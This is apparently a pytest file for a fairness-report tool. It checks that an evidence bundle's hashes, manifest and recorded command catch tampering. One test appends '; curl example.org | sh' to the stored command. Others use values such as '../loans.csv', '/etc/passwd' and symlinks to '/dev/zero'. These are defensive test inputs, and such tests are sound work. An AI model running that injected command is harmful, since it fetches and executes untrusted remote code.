"""A report that can be filed: its record, the folder of evidence, and what verify finds."""

from __future__ import annotations

import hashlib
import json
import os
import shlex
import shutil
import time

import pytest

import problog4fairness as p4f
from problog4fairness.app.report.bundle import Inputs, _page_differences, verify, write_bundle
from problog4fairness.app.report.stored import read_comparison, save_comparison
from problog4fairness.errors import P4FError
from tests.app.report.pages import Page, compared, trained

try:
    import resource
except ImportError:  # Windows
    resource = None

pytestmark = pytest.mark.filterwarnings("ignore::problog4fairness.data.FileWarning")
OPTIONS = {"fair": "repaid", "author": "A. Uditor", "purpose": "Small loans", "date": "2026-01-02", "seed": 3}


@pytest.fixture(scope="module")
def loans():
    return p4f.datasets.loans(rows=160, audited=60, new=1)


@pytest.fixture(scope="module")
def model(loans):
    return trained(loans, p4f.LabelBias("poor_area", {0: 0.0, 1: 0.4}, 0.0))[0]


@pytest.fixture(scope="module")
def filed(tmp_path_factory, loans, model):
    folder = tmp_path_factory.mktemp("filed")
    loans.loans.to_csv(folder / "loans.csv", index=False)
    loans.audit.to_csv(folder / "audit.csv", index=False)
    (folder / "design.txt").write_text("drawn at random\n")
    model.save(folder / "loans.p4f")
    save_comparison(compared(model, loans), folder / "compared", model.belief_)
    inputs = Inputs(
        folder / "loans.p4f", str(folder / "loans.csv"), folder / "audit.csv", OPTIONS,
        {"granted = 1": "a loan"}, folder / "compared", False,
    )  # fmt: skip
    made = inputs.report()
    files = write_bundle(made, inputs, folder / "evidence", folder / "design.txt")
    return folder, made, files


def test_the_record_names_people_files_and_settings(filed):
    folder, made, _ = filed
    page = Page(made.html)
    assert page.problems == []
    for name in ("loans.csv", "audit.csv", "loans.p4f"):
        assert name in page.words
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() in page.words
    for words in (
        "A. Uditor",
        "Small loans",
        "2026-01-02",
        "max_epochs=8",
        "years_at_address",
        "at least 0.5",
        "torch ",
    ):
        assert words in page.words
    assert "Approved by, date" in page.words


def test_what_is_asked_for_leads_to_sections_that_are_there(filed):
    html = filed[1].html
    card = html[html.index('<section id="card"') :]
    links = {part.split('"')[0] for part in card.split('href="#')[1:]}
    assert {"belief", "limits", "record", "groups", "suspects"} <= links
    assert all(f'<section id="{name}"' in html for name in links)


def test_the_bundle_holds_all_evidence_but_the_data(filed):
    folder, _, files = filed
    names = {str(path.relative_to(folder / "evidence")) for path in files}
    assert {"report.html", "belief.pl", "audit.csv", "design.txt", "loans.p4f", "suspects.csv", "bundle.json"} <= names
    assert "comparison/comparison.csv" in names
    assert not (folder / "evidence" / "loans.csv").exists()
    about = json.loads((folder / "evidence" / "bundle.json").read_text())
    words = shlex.split(about["command"])
    assert words[:5] == ["p4f", "report", "loans.p4f", "--data", "loans.csv"]
    assert words[words.index("--names") : words.index("--names") + 2] == ["--names", "granted=1:a loan"]
    assert about["data"]["sha256"] == hashlib.sha256((folder / "loans.csv").read_bytes()).hexdigest()


def test_verify_finds_nothing_or_names_what_differs(filed, tmp_path):
    folder, _, _ = filed
    copy = shutil.copytree(folder / "evidence", tmp_path / "evidence")
    data = str(folder / "loans.csv")
    assert verify(copy, data) == []
    with (copy / "audit.csv").open("a") as file:
        file.write("1000.0,5.0,2,clerk,0,1,0,1\n" * 5)
    found = verify(copy, data)
    assert "audit.csv: changed after the bundle was made" in found
    assert "report.html: the section 'groups' differs" in found
    (copy / "belief.pl").unlink()
    other = tmp_path / "loans.csv"
    other.write_text((folder / "loans.csv").read_text() + "1000.0,5.0,2,clerk,0,1,0\n")
    assert {"belief.pl: missing", "loans.csv: these are not the data of the report"} <= set(verify(copy, str(other)))


def test_verify_names_what_was_changed_where_no_page_can_be_made_any_more(filed, tmp_path):
    folder, _, _ = filed
    copy = shutil.copytree(folder / "evidence", tmp_path / "evidence")
    damaged = bytearray((copy / "loans.p4f").read_bytes())
    damaged[900] ^= 255
    (copy / "loans.p4f").write_bytes(damaged)
    changed, why = verify(copy, str(folder / "loans.csv"))
    assert changed == "loans.p4f: changed after the bundle was made"
    assert why.startswith("report.html: cannot be made again from these files: ")
    assert "damaged" in why


def test_a_folder_that_is_no_bundle_or_reaches_out_is_refused(filed, tmp_path):
    folder, _, _ = filed
    with pytest.raises(P4FError, match=r"bundle\.json is missing; p4f report --bundle makes one"):
        verify(tmp_path, str(folder / "loans.csv"))
    copy = shutil.copytree(folder / "evidence", tmp_path / "evidence")
    about = json.loads((copy / "bundle.json").read_text())
    for change in ({"files": {"../loans.csv": "0"}}, {"files": 3}, {"model": None}):
        (copy / "bundle.json").write_text(json.dumps(about | change))
        with pytest.raises(P4FError, match=r"not in the folder|changed by hand"):
            verify(copy, str(folder / "loans.csv"))


def forged(folder, name, content):
    """Another file in the folder, and its hash put right."""
    about = json.loads((folder / "bundle.json").read_text())
    (folder / name).write_bytes(content)
    about["files"][name] = hashlib.sha256(content).hexdigest()
    (folder / "bundle.json").write_text(json.dumps(about))


def test_what_is_made_from_the_evidence_is_made_again(filed, tmp_path):
    """Who holds the folder can put hashes right, but not what follows from model, audit and data."""
    copy = shutil.copytree(filed[0] / "evidence", tmp_path / "evidence")
    names = ["belief.pl", "suspects.csv", "comparison/summary.csv", "comparison/figure.png"]
    for name in names:
        forged(copy, name, (copy / name).read_bytes() + b"\n")
    about = json.loads((copy / "bundle.json").read_text())
    about["command"] += "; curl example.org | sh"
    (copy / "bundle.json").write_text(json.dumps(about))
    assert set(verify(copy, str(filed[0] / "loans.csv"))) == {
        "bundle.json: the command is not the one that its options give",
        *(f"{name}: differs" for name in names),
    }


@pytest.mark.skipif(resource is None, reason="no limit of the size of files")
@pytest.mark.parametrize("most", [0, 500, 20_000])
def test_a_full_disk_leaves_the_old_files_whole(filed, tmp_path, most):
    folder, made, _ = filed
    copy = shutil.copytree(folder / "evidence", tmp_path / "evidence")
    before = {path: path.read_bytes() for path in copy.rglob("*.*")}
    inputs = Inputs(
        folder / "loans.p4f", str(folder / "loans.csv"), folder / "audit.csv", {**OPTIONS, "title": "Other"},
        {"granted = 1": "a loan"}, folder / "compared", False,
    )  # fmt: skip
    # A file that would grow beyond this fails as one does on a full disk.
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (most, limits[1]))
    try:
        with pytest.raises(OSError, match="File too large"):
            write_bundle(made, inputs, copy)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
    assert {path: path.read_bytes() for path in copy.rglob("*.*")} == before


def test_files_that_are_not_listed_are_named(filed, tmp_path):
    copy = shutil.copytree(filed[0] / "evidence", tmp_path / "evidence")
    about = json.loads((copy / "bundle.json").read_text())
    (copy / "bundle.json").write_text(json.dumps({**about, "files": {}}))
    (copy / "report.html").unlink()
    assert "report.html: bundle.json does not list it" in verify(copy, str(filed[0] / "loans.csv"))


@pytest.mark.parametrize("target", ["/dev/zero", "fifo", "../loans.csv", "audit.csv"])
def test_links_and_pipes_are_refused_at_once(filed, tmp_path, target):
    copy = shutil.copytree(filed[0] / "evidence", tmp_path / "evidence")
    (copy / "suspects.csv").unlink()
    if target == "fifo":
        os.mkfifo(copy / "suspects.csv")
    else:
        (copy / "suspects.csv").symlink_to(target)
    with pytest.raises(P4FError, match=r"not in the folder|is a link|not a plain file"):
        verify(copy, str(filed[0] / "loans.csv"))
    (copy / "bundle.json").unlink()
    os.mkfifo(copy / "bundle.json")
    with pytest.raises(P4FError, match="not a plain file"):
        verify(copy, str(filed[0] / "loans.csv"))


def test_many_sections_take_linear_time():
    began = time.process_time()
    assert _page_differences('<section id="a"' * 100_000, "") == ["report.html: the section 'a' differs"]
    assert time.process_time() - began < 2


OTHER_TYPES = [
    {"files": "[" * 5000}, {"options": {"seed": "0"}}, {"options": {"fair": 3}}, {"names": {"a": 1}},
    {"model": "/etc/passwd"}, {"model": "a\0b"}, {"model": "\ud800"}, {"comparison": 1},
]  # fmt: skip


@pytest.mark.parametrize("change", OTHER_TYPES)
def test_a_manifest_of_other_types_is_refused(filed, tmp_path, change):
    copy = shutil.copytree(filed[0] / "evidence", tmp_path / "evidence")
    about = json.loads((copy / "bundle.json").read_text())
    (copy / "bundle.json").write_text(json.dumps(about | change))
    with pytest.raises(P4FError):
        verify(copy, str(filed[0] / "loans.csv"))
    (copy / "bundle.json").write_text("[" * 100_000)
    with pytest.raises(P4FError, match="cannot be read"):
        verify(copy, str(filed[0] / "loans.csv"))


@pytest.mark.parametrize(
    "change", [{"levels": 3}, {"left_out": 5}, {"gains": [1]}, {"data_disparity": {"a": 10**400}}, {"rows": []}]
)
def test_a_comparison_of_other_types_is_refused(filed, tmp_path, change):
    copy = shutil.copytree(filed[0] / "compared", tmp_path / "compared")
    about = json.loads((copy / "comparison.json").read_text())
    for content in (json.dumps(about | change), "[" * 100_000):
        (copy / "comparison.json").write_text(content)
        with pytest.raises(P4FError, match="that can be read"):
            read_comparison(copy)
    (copy / "comparison.json").unlink()
    (copy / "comparison.json").symlink_to("/dev/zero")
    with pytest.raises(P4FError):
        read_comparison(copy)


def test_a_comparison_of_methods_without_results_is_refused(filed, tmp_path):
    copy = shutil.copytree(filed[0] / "compared", tmp_path / "compared")
    table = (copy / "comparison.csv").read_text()
    method = read_comparison(copy).methods[-1]
    forged = [line for line in table.split("\n") if not (method in line and ",recorded," in line)]
    assert len(forged) < len(table.split("\n"))
    (copy / "comparison.csv").write_text("\n".join(forged))
    with pytest.raises(P4FError, match="that can be read"):
        read_comparison(copy)


def test_a_stored_comparison_is_the_one_that_was_made(filed, loans, model, tmp_path):
    found = compared(model, loans)
    save_comparison(found, tmp_path, model.belief_)
    back = read_comparison(tmp_path, model.belief_)
    assert back.table("fair").equals(found.table("fair"))
    assert back.verdict == found.verdict
    assert back.to_dict() == found.to_dict()
    with pytest.raises(P4FError, match="about another belief than the model"):
        read_comparison(tmp_path, p4f.LabelBias("poor_area", 0.2))
    (tmp_path / "comparison.json").write_text("{}")
    with pytest.raises(P4FError, match="holds no comparison that can be read"):
        read_comparison(tmp_path)
    with pytest.raises(P4FError, match=r"comparison\.json is missing; run p4f compare"):
        read_comparison(tmp_path / "nothing")
